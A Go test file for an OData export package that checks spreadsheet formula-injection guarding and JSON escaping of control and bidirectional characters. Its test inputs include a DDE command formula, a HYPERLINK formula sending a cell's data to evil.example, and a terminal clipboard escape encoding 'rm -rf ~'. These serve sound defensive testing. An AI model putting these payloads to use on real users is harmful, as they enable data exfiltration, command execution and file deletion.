package odata

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestGuardCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+1+1", "'+1+1"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"-INF", "'-INF"},
		{"-1e", "'-1e"},
		{"-.", "'-."},
		{"+7", "'+7"},
		// plain negative numbers, as servers send Edm.Decimal: data
		{"-7", "-7"},
		{"-1.50", "-1.50"},
		{"-1.5E3", "-1.5E3"},
		{"-2e-8", "-2e-8"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		// not formulas
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"7", "7"},
	} {
		if got := GuardCell(tc.in); got != tc.want {
			t.Errorf("GuardCell(%q) = %q; want %q", tc.in, got, tc.want)
		}
	}
}

func TestEscapeJSON(t *testing.T) {
	in := `{"k` + "\u009b" + `":"a` + "\x7f\u0085\u202e\u2066\u200e\u200f\u061c\u200d\U000e0041é日" + `"}`
	got := string(EscapeJSON(nil, []byte(in), nil))
	want := `{"k\u009b":"a\u007f\u0085\u202e\u2066\u200e\u200f\u061c` + "\u200d\U000e0041é日" + `"}`
	if got != want {
		t.Errorf("got %q; want %q", got, want)
	}
	extra := func(r rune) bool { return r == 0x200d || r >= 0xe0000 }
	got = string(EscapeJSON(nil, []byte(in), extra))
	want = `{"k\u009b":"a\u007f\u0085\u202e\u2066\u200e\u200f\u061c\u200d\udb40\udc41é日"}`
	if got != want {
		t.Errorf("with extra: got %q; want %q", got, want)
	}
	var a, b map[string]string
	if err := json.Unmarshal([]byte(in), &a); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(got), &b); err != nil {
		t.Fatalf("escaped JSON does not parse: %v", err)
	}
	if len(a) != 1 || len(b) != 1 || a["k\u009b"] != b["k\u009b"] {
		t.Errorf("parsed back %q; want %q", b, a)
	}
}

// FuzzEscapeJSON: whatever a server sends, the JSON writers' output parses
// to the same data and holds none of the characters always escaped.
func FuzzEscapeJSON(f *testing.F) {
	for _, s := range []string{"plain", "\x1b]52;c;cm0gLXJmIH4=\x07", "\u009b2J\u202eevil\u2069", "\x7f\u200e\u061c", "😀\u200d😀", "\xff\xfe"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		w := NewNDJSONWriter(&b)
		if err := w.Write(Row{Keys: []string{s}, Values: map[string]any{s: s}}); err != nil {
			t.Fatal(err)
		}
		w.Close()
		out := b.String()
		for _, r := range out {
			if escapedAlways(r) || r < 0x20 && r != '\n' {
				t.Fatalf("output %q holds %U raw", out, r)
			}
		}
		var back map[string]string
		if err := json.Unmarshal(b.Bytes(), &back); err != nil {
			t.Fatalf("output %q does not parse: %v", out, err)
		}
		want := strings.ToValidUTF8(s, "\uFFFD")
		if !utf8.ValidString(s) { // encoding/json replaces each invalid byte
			want = string([]rune(s))
		}
		if len(back) != 1 || back[want] != want {
			t.Fatalf("parsed back %q; want {%q: %q}", back, want, want)
		}
	})
}
